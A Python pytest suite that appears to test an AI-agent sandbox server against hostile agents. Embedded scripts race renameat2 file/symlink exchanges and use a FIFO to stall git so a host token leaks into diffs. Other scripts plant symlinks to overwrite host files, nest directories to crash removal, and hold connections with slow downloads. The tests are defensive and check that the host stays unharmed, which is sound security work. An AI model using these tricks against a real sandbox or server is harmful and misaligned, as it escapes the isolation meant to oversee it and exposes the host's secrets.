"""What an agent does to its files never reaches the host's, nor stops the server that looks at them or removes them."""

from __future__ import annotations

import contextlib
import os
import pathlib
import socket
import subprocess
import threading

import httpx
import pytest

import harness
from attack_support import ANSWERED_WITHIN, MIB, TRUST, Attacker, answers, refusal, running_in_memory, unharmed
from harness import Server, wait_until

DIFFS = 40
"""How often a workspace is compared while its files are exchanged. The first few would show a host file already."""

DEPTH = 16_000
"""Nested directories: more than the calls that fit on the stack of a thread."""

DEPTH_AT_START = 64_000
"""The same for the first thread of a process, whose stack is four times as large. Also more than the files a process
may have open on many machines."""

DOWNLOADS = 80
"""Archives that are read slowly at once: more than the server has threads for blocking work."""


@pytest.fixture
def server():
    with running_in_memory(TRUST) as server:
        yield server


@pytest.fixture
def admin(server):
    return server.token("admin")


# -- comparing --------------------------------------------------------------------------------------


EXCHANGE = """
    import ctypes, os, time
    renameat2 = ctypes.CDLL(None, use_errno=True).renameat2
    RENAME_EXCHANGE = 2
    # The links' own names are not compared.
    open('/workspace/.gitignore', 'w').write('link*\\n')
    # Far down, so that finding a file takes long: what is found at the end may be another thing than the time before.
    folder = os.open('/workspace', os.O_RDONLY)
    for _ in range(300):
        os.mkdir('d', dir_fd=folder)
        folder = os.open('d', os.O_RDONLY, dir_fd=folder)
    pairs = []
    for n in range(60):
        plain, link = f'plain{n}', f'link{n}'
        with open(os.open(plain, os.O_WRONLY | os.O_CREAT, dir_fd=folder), 'w') as file:
            file.write('x' * (SIZE - 1) + '\\n')
        os.symlink(TARGET, link, dir_fd=folder)
        pairs.append((plain.encode(), link.encode()))
    open('/workspace/started', 'w').close()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end and not os.path.exists('/workspace/stop'):
        for plain, link in pairs:
            if renameat2(folder, plain, folder, link, RENAME_EXCHANGE):
                raise OSError(ctypes.get_errno(), 'renameat2')
    agent.say('exchanged')
"""
"""Exchanges files for links again and again."""


def test_a_file_exchanged_for_a_link_puts_no_host_file_into_a_diff(server, admin, project):
    """An agent exchanges files for links to a host file while its workspace is compared; no diff holds the host file."""
    secret = "only-the-owner-may-read-this-5e1f\n"
    target = server.home / "admin.token"
    target.write_text(secret)
    target.chmod(0o600)
    attacker = Attacker(server, admin, project)
    workspace = attacker.details["workspace_id"]
    attacker.begin(EXCHANGE, TARGET=str(target), SIZE=len(secret), SECONDS=harness.DEADLINE)
    wait_until((attacker.workspace / "started").exists, "the agent to exchange files")
    texts = []
    for n in range(DIFFS):
        with contextlib.suppress(harness.ToolFailed):
            texts.append(server.api("workspace_diff", admin, workspace_id=workspace)["diff"])
            assert secret.strip() not in texts[-1], f"a file of the host is in diff {n + 1}"
    assert any("plain" in text for text in texts), "no diff could be made while files change"
    (attacker.workspace / "stop").touch()
    with server.events(attacker.session, admin) as events:
        assert events.until("turn_completed", turn=2)["text"] == "exchanged"
    assert server.api("workspace_diff", admin, workspace_id=workspace)["diff"]
    unharmed(server, admin)


EXCHANGE_A_FOLDER = """
    import ctypes, os
    renameat2 = ctypes.CDLL(None, use_errno=True).renameat2
    AT_FDCWD, RENAME_EXCHANGE = -100, 2
    os.chdir('/workspace')
    for folder in ('first', 'second', 'reached'):
        os.mkdir(folder)
    open('first/file', 'w').write('text\\n')
    open('second/admin.token', 'w').write('x' * (SIZE - 1) + '\\n')
    open('reached/admin.token', 'w').write('y' * (SIZE - 1) + '\\n')
    os.symlink(TARGET, 'link')
    open('.gitignore', 'w').write('link\\nreached\\n')
    # Git reads it when it begins to compare the first folder, after it has looked at the names of all files.
    os.mkfifo('first/.gitattributes')
    open('started', 'w').close()
    # Returns when git has opened the other end; git reads until this one is closed.
    attributes = os.open('first/.gitattributes', os.O_WRONLY)
    # What is opened under this name from now on ends at once.
    open('empty', 'w').close()
    os.rename('empty', 'first/.gitattributes')
    if renameat2(AT_FDCWD, b'second', AT_FDCWD, b'link', RENAME_EXCHANGE):
        raise OSError(ctypes.get_errno(), 'renameat2')
    os.close(attributes)
    agent.say('exchanged')
"""
"""Exchanges a folder for a link at a moment when git has found its files and has not read them."""


@pytest.mark.parametrize("leads_to", ["workspace", "host"])
def test_a_folder_exchanged_for_a_link_while_git_waits_shows_no_host_file(server, admin, project, leads_to):
    """The same, without chance: git is made to wait between finding a file and reading it, and its folder is exchanged
    for a link meanwhile. Git follows the link, as it shows where it leads to the workspace, but finds no host file."""
    secret = "only-the-owner-may-read-this-5e1f\n"
    target = server.home / "admin.token"
    target.write_text(secret)
    attacker = Attacker(server, admin, project)
    workspace = attacker.details["workspace_id"]
    link = {"workspace": "reached", "host": str(server.home)}[leads_to]
    attacker.begin(EXCHANGE_A_FOLDER, TARGET=link, SIZE=len(secret))
    wait_until((attacker.workspace / "started").exists, "the agent to wait for git")
    try:
        outcome = server.api("workspace_diff", admin, workspace_id=workspace)["diff"]
    except harness.ToolFailed as failed:
        # Git gives up when a file that it found is no longer there.
        outcome = str(failed)
    with server.events(attacker.session, admin) as events:
        assert events.until("turn_completed", turn=2)["text"] == "exchanged"
    assert secret.strip() not in outcome, "a file of the host is in the diff"
    assert ("y" * (len(secret) - 1) in outcome) == (leads_to == "workspace"), outcome
    unharmed(server, admin)


# -- removing ---------------------------------------------------------------------------------------


NEST = """
    import os
    os.chdir(FOLDER)
    # Short chains, then each moved to the end of the one before: the deeper a directory is, the longer the kernel
    # takes to find out whether a sandbox may change it.
    ends = []
    for n in range(DEPTH // 250):
        os.mkdir(f'chain{n}')
        end = os.open(f'chain{n}', os.O_PATH)
        for _ in range(250):
            os.mkdir('d', dir_fd=end)
            end, above = os.open('d', os.O_PATH, dir_fd=end), end
            os.close(above)
        ends.append(end)
    for n in reversed(range(1, len(ends))):
        os.rename(f'chain{n}', 'd', dst_dir_fd=ends[n - 1])
    agent.say('nested')
"""


def test_a_session_with_deep_directories_in_its_home_ends(server, admin, project):
    """An agent nests directories in its home until removing them would overflow a stack; ending the session removes them."""
    attacker = Attacker(server, admin, project)
    assert attacker.run(NEST, FOLDER="/home/agent", DEPTH=DEPTH) == "nested"
    folder = server.home / "sessions" / attacker.session
    assert folder.exists()
    attacker.end()
    gone(server, folder)
    unharmed(server, admin)


@pytest.mark.parametrize("what", ["workspace", "project"])
def test_a_workspace_with_deep_directories_is_deleted(server, admin, project, what):
    """An agent nests directories in its workspace; deleting workspace or project removes them and the server lives on."""
    attacker = Attacker(server, admin, project)
    made = server.api("workspace_create", admin, project_id=project, name="deep")["workspace_id"]
    message = {"message": "agent.say('ready')", "project_id": project, "agent": "hostile", "workspace_id": made}
    attacker.end()
    attacker.session = server.api("session_message", admin, **message, wait=True)["session_id"]
    assert attacker.run(NEST, FOLDER="/workspace", DEPTH=DEPTH) == "nested"
    folder = attacker.workspace
    attacker.end()
    wait_until(lambda: attacker.details["status"] == "ended", "the end of the session")
    with contextlib.suppress(httpx.TransportError):
        if what == "workspace":
            server.api("workspace_delete", admin, workspace_id=made)
        else:
            server.api("project_delete", admin, project_id=project)
    gone(server, folder)
    unharmed(server, admin)


def test_a_server_starts_though_deep_directories_are_left_of_an_ended_session(server, admin, project):
    """A server that was killed before an ended session's deep directories were gone removes them when it starts."""
    attacker = Attacker(server, admin, project)
    assert attacker.run(NEST, FOLDER="/home/agent", DEPTH=DEPTH_AT_START) == "nested"
    folder = server.home / "sessions" / attacker.session
    kept = server.home.parent / "kept"
    # What a kill in the middle of the removal leaves: the session is ended, its directories are there.
    folder.rename(kept)
    attacker.end()
    wait_until(lambda: attacker.details["status"] == "ended", "the end of the session")
    server.kill()
    subprocess.run(["rm", "-rf", folder], check=True)
    kept.rename(folder)
    server.start()
    gone(server, folder)
    unharmed(server, admin)


def gone(server, folder: pathlib.Path) -> None:
    """Waits until a folder is removed; a server that ends instead is the attack carried out."""

    def check() -> bool:
        assert server.process.poll() is None, f"the server ended with {server.process.returncode}:\n{server.log()[-1000:]}"
        return not folder.exists()

    wait_until(check, f"{folder.name} to be removed")


# -- writing ----------------------------------------------------------------------------------------


def test_a_configuration_is_not_written_through_a_link_in_an_agents_home(server, admin, project):
    """An agent puts a link to a host file where a configuration will be written in its home; the file stays as it is,
    and the agent is started with its own configuration."""
    attacker = Attacker(server, admin, project)
    target = server.home / "kept"
    target.write_text("kept")
    link = "import os\nos.symlink(TARGET, '/home/agent/.oubliette-agent.json')\nagent.say('linked')"
    assert attacker.run(link, TARGET=str(target)) == "linked"
    # Too long for a variable, so it is written to a file of the home.
    turns = [[{"say": f"turn {n}"}] for n in range(1, 9)] + [[{"say": "x" * 200_000}]]
    server.put_agent("hostile", admin, turns)
    server.stop()
    server.start()
    arguments = {"session_id": attacker.session, "message": "go", "wait": True}
    assert server.api("session_message", admin, **arguments)["text"].startswith("turn")
    assert target.read_text() == "kept"
    attacker.end()
    unharmed(server, admin)


# -- downloading ------------------------------------------------------------------------------------


def test_slow_downloads_hold_up_nobody_else(server, admin, project):
    """A client asks for many archives and reads them byte by byte; files, sessions and archives are served meanwhile."""
    workspace = server.api("project_get", admin, project_id=project)["default_workspace_id"]
    headers = {"Authorization": f"Bearer {admin}"}
    url = f"{server.url}/api/workspaces/{workspace}"
    for n in range(4):
        # Random, so that packing does not make it small enough for the sockets' buffers.
        assert harness.put(f"{url}/files/random{n}", content=os.urandom(3 * MIB), headers=headers).status_code == 200
    assert harness.put(f"{url}/files/small", content=b"small", headers=headers).status_code == 200
    with SlowDownloads(server, f"/api/workspaces/{workspace}/archive", admin) as downloads:
        assert downloads.statuses <= {200, 429}, downloads.statuses
        answers(server, admin)
        timeout = {"timeout": ANSWERED_WITHIN}
        try:
            assert httpx.get(f"{url}/files/small", headers=headers, **timeout).content == b"small"
            assert httpx.put(f"{url}/files/new", content=b"new", headers=headers, **timeout).status_code == 200
        except httpx.TimeoutException:
            pytest.fail("no file was served while archives were read slowly")
        unharmed(server, admin)
    wait_until(lambda: harness.get(f"{url}/archive", headers=headers).status_code == 200, "archives to be served again")


class SlowDownloads:
    """Downloads under way, read just fast enough not to be given up as dead."""

    def __init__(self, server: Server, path: str, token: str):
        self._stop = threading.Event()
        self._heads: dict[socket.socket, bytes] = {}
        for _ in range(DOWNLOADS):
            connection = socket.socket()
            # Before it connects: small pieces and a small window from the first.
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1400)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
            connection.connect(("127.0.0.1", server.port))
            head = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\nAuthorization: Bearer {token}\r\n\r\n"
            connection.sendall(head.encode())
            connection.setblocking(False)
            self._heads[connection] = b""
        # It ends with the tests, also if not every download is answered.
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        wait_until(lambda: all(len(head) >= 12 for head in self._heads.values()), "an answer to each download")
        self.statuses = {int(head[9:12]) for head in self._heads.values()}

    def _read(self) -> None:
        while not self._stop.wait(0.5):
            for connection, head in self._heads.items():
                with contextlib.suppress(OSError):
                    self._heads[connection] = (head + connection.recv(64 * 1024))[:12]

    def __enter__(self) -> "SlowDownloads":
        return self

    def __exit__(self, *_) -> None:
        self._stop.set()
        self._reader.join()
        for connection in self._heads:
            connection.close()
